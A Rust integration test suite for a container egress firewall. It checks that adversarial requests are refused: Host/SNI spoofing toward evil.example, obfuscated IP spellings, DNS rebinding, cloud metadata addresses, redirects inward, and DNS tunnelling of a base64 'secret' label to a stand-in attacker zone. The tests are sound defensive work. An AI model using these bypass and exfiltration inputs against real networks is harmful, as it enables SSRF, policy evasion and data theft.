//! Issue 3's adversarial egress suite with real programs: curl, OpenSSL, Python's ssl and dig in a guest's namespace, a world of
//! our own behind the host's. Each thing that is refused is first shown to work where it is allowed, so that it is the policy that
//! refuses; and the world tells what reached it.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test: a panic is its report")]
#![cfg(target_os = "linux")]

mod common;
#[path = "egress/world.rs"]
mod world;

use std::net::{SocketAddr, TcpListener};
use std::path::Path;
use std::time::Duration;

use common::until;
use world::{Log, curl, dig, guest, programs, with_world};

/// Names below `good.example`, on the web's ports.
const GOOD: &str = r#"egress-default = "deny"
egress = [{ action = "allow", name = ["good.example", "*.good.example"], ports = "80,443", protocol = "tcp" }]"#;
/// Everything but the inside.
const OUTSIDE: &str = r#"egress-default = "allow"
egress = [{ action = "deny", to = ["loopback", "private", "link-local", "metadata"] }]"#;
const ALL: &str = "";

/// Rules with names leave everything that they allow as it is, in both families, with HTTP and TLS.
#[test]
fn an_allowed_name_is_reached_as_if_there_were_no_policy() {
    with_world(GOOD, async |net, world| {
        for arguments in [
            "http://good.example/",
            "-4 https://good.example/",
            "-6 https://good.example/",
            "-6 http://good.example/",
            "https://WWW.Good.Example./",
            "--tls-max 1.2 https://www.good.example/",
            "-d a=b http://www.good.example:80/form",
            "-L http://good.example/to/https://www.good.example/",
        ] {
            curl(net, world, arguments).unwrap_or_else(|error| panic!("{arguments}: {error}"));
        }
    });
}

/// "SNI and Host mismatch", "IP literals", HTTP/2 without TLS, no name at all, another protocol: nothing of these reaches the world,
/// not even their first bytes.
#[test]
fn another_name_at_an_allowed_address_sends_nothing() {
    let attempts = [
        ("-k --resolve evil.example:443:93.184.215.14 https://evil.example/", "(evil.example)"),
        ("--resolve evil.example:80:93.184.215.14 http://evil.example/", "(evil.example)"),
        ("-H 'Host: evil.example' http://www.good.example/", "(evil.example)"),
        ("-H 'Host: evil.example' http://93.184.215.14/", "(evil.example)"),
        ("-k https://93.184.215.14/", "TLS without a server's name"),
        ("http://93.184.215.14/", "HTTP without a host's name"),
        ("-x http://www.good.example:80 http://evil.example/", "(evil.example)"),
        ("-p -x http://www.good.example:80 http://evil.example/", "(evil.example"),
        ("--http2-prior-knowledge http://www.good.example/", "HTTP/2 without TLS"),
        (
            "-H 'Host: www.good.example' --request-target http://evil.example/ http://www.good.example/",
            "differ",
        ),
        ("-m 1 telnet://www.good.example:80", "ended before it said a name"),
    ];
    with_world(ALL, async |net, world| {
        // The same without a policy, as far as a web server answers to it.
        for (arguments, _) in &attempts[..6] {
            curl(net, world, arguments).unwrap_or_else(|error| panic!("{arguments}: {error}"));
        }
    });
    with_world(GOOD, async |net, world| {
        let log = Log::start();
        for (arguments, words) in attempts {
            // The address is pinned: the name decides.
            assert!(dig(net, world, "www.good.example").contains("93.184.215.14"));
            world.forget();
            assert!(curl(net, world, arguments).is_err(), "{arguments}");
            assert!(!world.saw("data") && !world.saw("request"), "{arguments}:\n{}", world.log());
            log.tells(&["tcp to 93.184.215.14", words]).await;
        }
        let no_name = "openssl s_client -noservername -connect www.good.example:443 </dev/null";
        assert!(!guest(net, world, no_name).status.success());
        assert!(!world.saw("data"));
        curl(net, world, "https://www.good.example/").unwrap();
    });
}

/// "IP literals": an address that DNS did not answer is refused before the world hears of it, whatever is said there.
#[test]
fn an_address_by_heart_is_not_even_dialled() {
    with_world(GOOD, async |net, world| {
        let log = Log::start();
        for arguments in [
            "-k --resolve www.good.example:443:93.184.215.15 https://www.good.example/",
            "--resolve www.good.example:80:93.184.215.15 http://www.good.example/",
            "http://93.184.215.15/",
            "http://1572394767/",
            "http://0x5db8d70f/",
            "http://0135.0270.0327.017/",
            "http://93.12113679/",
            "http://[::ffff:93.184.215.15]/",
        ] {
            let error = curl(net, world, arguments).unwrap_err();
            assert!(error.contains("curl: (7)"), "{arguments}: {error}");
        }
        assert!(!world.saw("open"), "{}", world.log());
        log.tells(&["tcp to 93.184.215.15:80: denied by the default; DNS answered no name of rule 1"]).await;
    });
}

/// "DNS rebinding".
#[test]
fn a_name_does_not_lead_inside() {
    with_world(ALL, async |net, world| {
        curl(net, world, "http://rebind.good.example/").unwrap();
        curl(net, world, "http://meta.good.example/").unwrap();
        curl(net, world, "http://host.good.example:8081/").unwrap();
    });
    with_world(GOOD, async |net, world| {
        let log = Log::start();
        for name in ["rebind", "loop", "host", "meta", "meta6", "mapped", "nat64", "mixed"] {
            for question in ["A", "AAAA"] {
                let answer = dig(net, world, &format!("{question} {name}.good.example"));
                let none = answer.contains("ANSWER: 0");
                assert!(none, "{question} {name}: {answer}");
            }
            assert!(curl(net, world, &format!("http://{name}.good.example/")).is_err(), "{name}");
        }
        // First an honest answer, then another.
        curl(net, world, "http://flip.good.example/").unwrap();
        assert!(curl(net, world, "http://flip.good.example/").is_err());
        assert!(
            curl(net, world, "--resolve flip.good.example:80:10.9.8.7 http://flip.good.example/").is_err()
        );
        assert!(!world.saw("open 10.9.8.7") && !world.saw("open 169.254.169.254"), "{}", world.log());
        log.tells(&[
            "rebind.good.example at 10.9.8.7",
            "{ action = \"allow\", name = \"rebind.good.example\", to = \"10.9.8.7\" }",
        ])
        .await;
    });
}

/// "Metadata addresses", "loopback and private ranges through every spelling", "IPv6-mapped addresses", the host alias, the gateway.
#[test]
fn no_spelling_of_the_inside_passes() {
    let inside = [
        "http://10.9.8.7/",
        "http://168364039/",
        "http://0xa090807/",
        "http://012.011.010.07/",
        "http://10.591879/",
        "http://[::ffff:10.9.8.7]/",
        "http://[::ffff:a09:807]/",
        "http://[64:ff9b::10.9.8.7]/",
        "http://[2002:a09:807::1]/",
        "http://169.254.169.254/",
        "http://2852039166/",
        "http://[::ffff:169.254.169.254]/",
        "http://[fd00:ec2::254]/",
        "http://198.19.68.254:8081/",
        "http://[fd64:686f:7700::fe]:8081/",
        "http://198.19.68.1:8081/",
        "http://host.docker.internal:8081/",
        "http://gateway.docker.internal:8081/",
        "http://[fd12:3456::7]/",
        // The host by its own address, which is nobody's private one.
        "http://203.0.113.1:8082/",
        "http://[2001:db8:113::1]:8082/",
    ];
    with_world(ALL, async |net, world| {
        for url in inside {
            curl(net, world, url).unwrap_or_else(|error| panic!("{url}: {error}"));
        }
    });
    with_world(OUTSIDE, async |net, world| {
        for url in inside {
            assert!(curl(net, world, url).is_err(), "{url}");
        }
        assert!(!world.saw("open"), "{}", world.log());
        let ping = |address| guest(net, world, &format!("ping -c1 -W2 {address}")).status.success();
        assert!(!ping("10.9.8.7") && !ping("169.254.169.254"));
        for url in ["http://93.184.215.15/", "https://good.example/", "http://[2606:2800:21f::14]/"] {
            curl(net, world, url).unwrap_or_else(|error| panic!("{url}: {error}"));
        }
        // Names of ours are answered all the same, and containers' ports are nobody's business here.
        assert!(dig(net, world, "host.docker.internal").contains("198.19.68.254"));
    });
}

/// "DNS over TCP to other servers", "DNS tunnelling to a denied zone".
#[test]
fn no_question_reaches_another_server_or_a_denied_zone() {
    with_world(ALL, async |net, world| {
        for arguments in
            ["@93.184.215.15 x.evil.example", "+tcp @93.184.215.15 x.evil.example", "x.evil.example"]
        {
            assert!(dig(net, world, arguments).contains("93.184.215.15"), "{arguments}");
        }
    });
    with_world(GOOD, async |net, world| {
        let log = Log::start();
        for arguments in [
            "@93.184.215.15 c2VjcmV0.evil.example",
            "+tcp @93.184.215.15 c2VjcmV0.evil.example",
            "+tcp @203.0.113.53 www.good.example",
            "@203.0.113.53 www.good.example",
            "c2VjcmV0.evil.example",
            "+tcp c2VjcmV0.evil.example",
            "TXT c2VjcmV0.evil.example",
            "'www.good\\.example'",
            "'c2VjcmV0\\000.evil.example'",
            "www.good.example.evil.example",
            "-x 10.9.8.7",
            "example",
        ] {
            let answer = dig(net, world, arguments);
            assert!(!answer.contains("status: NOERROR"), "{arguments}: {answer}");
        }
        assert!(!world.saw("dns"), "{}", world.log());
        let refused = dig(net, world, "c2VjcmV0.evil.example");
        assert!(refused.contains("status: REFUSED"), "{refused}");
        assert!(dig(net, world, "www.good.example").contains("93.184.215.14"));
        assert!(dig(net, world, "+tcp WWW.good.example").contains("93.184.215.14"));
        log.tells(&["looking up c2vjcmv0.evil.example: denied by the default"]).await;
        log.tells(&[
            "udp to 93.184.215.15:53: denied by the default",
            "{ action = \"allow\", ports = 53, protocol = \"udp\"",
        ])
        .await;
    });
}

/// "Redirects".
#[test]
fn a_redirect_leads_nowhere_else() {
    with_world(GOOD, async |net, world| {
        for place in [
            "http://169.254.169.254/latest",
            "http://10.9.8.7/",
            "http://93.184.215.14/",
            "http://evil.example/",
            "http://host.docker.internal:8081/",
            "http://rebind.good.example/",
        ] {
            world.forget();
            assert!(curl(net, world, &format!("-L http://www.good.example/to/{place}")).is_err(), "{place}");
            let log = world.log();
            let requests: Vec<&str> = log.lines().filter(|line| line.starts_with("request")).collect();
            assert_eq!(requests, [format!("request www.good.example /to/{place}")], "{log}");
        }
    });
}

/// "QUIC": UDP says no name; the denial tells what would allow it, and that does.
#[test]
fn quic_is_refused_until_a_rule_goes_by_the_address() {
    const ECHO: &str = "python3 -c \"
import socket, sys
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.settimeout(3)
udp.connect(('good.example', 443))
for attempt in range(3):
    try:
        udp.send(b'initial')
        sys.exit(udp.recv(100) != b'initial')
    except ConnectionError:
        pass
sys.exit(1)\"";
    with_world(ALL, async |net, world| {
        assert!(guest(net, world, ECHO).status.success());
    });
    with_world(GOOD, async |net, world| {
        let log = Log::start();
        assert!(!guest(net, world, ECHO).status.success());
        assert!(!world.saw("datagram"), "{}", world.log());
        log.tells(&["udp to 93.184.215.14:443: denied by the default"]).await;
    });
    let udp = r#"egress-default = "deny"
egress = [{ action = "allow", name = "good.example" }]"#;
    let words = "{ action = \"allow\", check = \"address\", name = \"good.example\", ports = 443, protocol = \"udp\" }";
    with_world(udp, async |net, world| {
        let log = Log::start();
        assert!(!guest(net, world, ECHO).status.success());
        log.tells(&["udp to 93.184.215.14:443 (good.example)", "by TCP it would", words]).await;
    });
    with_world(&udp.replace('[', &format!("[{words}, ")), async |net, world| {
        assert!(guest(net, world, ECHO).status.success());
    });
}

/// A ClientHello in 500 segments is one ClientHello.
#[test]
fn a_name_said_byte_by_byte_is_the_same_name() {
    with_world(GOOD, async |net, world| {
        assert!(dig(net, world, "www.good.example").contains("93.184.215.14"));
        let script = include_str!("egress/slow.py");
        let slow = |name: &str| {
            let mut python = net.guest.command("python3");
            python.args(["-c", script, "93.184.215.14", "443", name]).output().unwrap()
        };
        let good = slow("www.good.example");
        assert!(String::from_utf8_lossy(&good.stdout).contains("200 OK"), "{good:?}");
        world.forget();
        assert!(!slow("evil.example").status.success());
        assert!(!world.saw("data"), "{}", world.log());
    });
}

/// In some protocols the server speaks first: it is heard before anything is judged.
#[test]
fn a_server_that_speaks_first_is_heard() {
    let section = r#"egress-default = "allow"
egress = [{ action = "deny", name = "evil.example" }]"#;
    with_world(section, async |net, world| {
        let talk = "python3 -c \"
import socket
s = socket.create_connection(('good.example', 2525), timeout=5)
print(s.recv(100))
s.sendall(bytes([69, 72, 76, 79, 32, 109, 101, 13, 10]))
print(s.recv(100))\"";
        let output = guest(net, world, talk);
        let text = String::from_utf8_lossy(&output.stdout);
        assert!(text.contains("220 welcome"), "{output:?}");
        until("the greeting is answered", Duration::from_secs(15), || world.saw("data greeter")).await;
        assert!(dig(net, world, "evil.example").contains("status: REFUSED"));
        assert!(
            curl(net, world, "-k --resolve evil.example:443:93.184.215.14 https://evil.example/").is_err()
        );
        curl(net, world, "https://good.example/").unwrap();
    });
}

/// Spec 12.4: the rule that a denial names is the one that allows it.
#[test]
fn the_rule_in_the_log_can_be_put_into_the_configuration() {
    let log = Log::start();
    let mut rules: Vec<String> = Vec::new();
    let mut reached = false;
    // Each failure names one rule more.
    for _ in 0..4 {
        let section = format!("egress-default = \"deny\"\negress = [{}]", rules.join(", "));
        with_world(&section, async |net, world| {
            reached = curl(net, world, "-4 http://evil.example/").is_ok();
            if reached {
                assert!(curl(net, world, "http://93.184.215.14/").is_err());
            }
        });
        if reached || !programs() {
            break;
        }
        let rule = log
            .denials()
            .iter()
            .rev()
            .filter(|line| line.contains("evil.example") || line.contains("93.184.215.15"))
            .find_map(|line| line.split_once(": { ")?.1.split_once(" }"))
            .map(|(rule, _)| format!("{{ {rule} }}"))
            .unwrap();
        rules.insert(0, rule);
    }
    if programs() {
        assert!(reached);
        assert_eq!(rules, ["{ action = \"allow\", name = \"evil.example\" }"]);
    }
}

/// Issue 3, "rules by direction": a client that a rule denies does not reach the container, whatever its port is published as.
#[test]
fn a_client_that_a_rule_denies_does_not_come_in() {
    let section = r#"egress = [{ action = "deny", direction = "in", from = "203.0.113.1", ports = 8080 }]"#;
    with_world(section, async |net, _| {
        let service = SocketAddr::new(common::CONTAINER.into(), 80);
        let container = net.guest.inside(|| TcpListener::bind(service).unwrap());
        container.set_nonblocking(true).unwrap();
        for (port, passes) in [(8080, false), (8090, true)] {
            let listener = TcpListener::bind(SocketAddr::new(common::WORLD.into(), port)).unwrap();
            let client = common::stream::connect(listener.local_addr().unwrap()).unwrap();
            let (accepted, from) = common::stream::accept(&listener);
            net.handle().tcp(accepted, from, service).await;
            let mut came = false;
            for _ in 0..100 {
                came |= container.accept().is_ok();
                if came {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
            assert_eq!(came, passes, "{port}");
            drop(client);
        }
    });
}

/// The scripts are read from beside this file, so that they can be read and run by themselves.
#[test]
fn the_scripts_are_python() {
    if programs() {
        for script in ["world.py", "slow.py"] {
            let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/egress").join(script);
            let check = "import ast, sys; ast.parse(open(sys.argv[1]).read())";
            let status =
                std::process::Command::new("python3").args(["-c", check]).arg(path).status().unwrap();
            assert!(status.success(), "{script}");
        }
    }
}
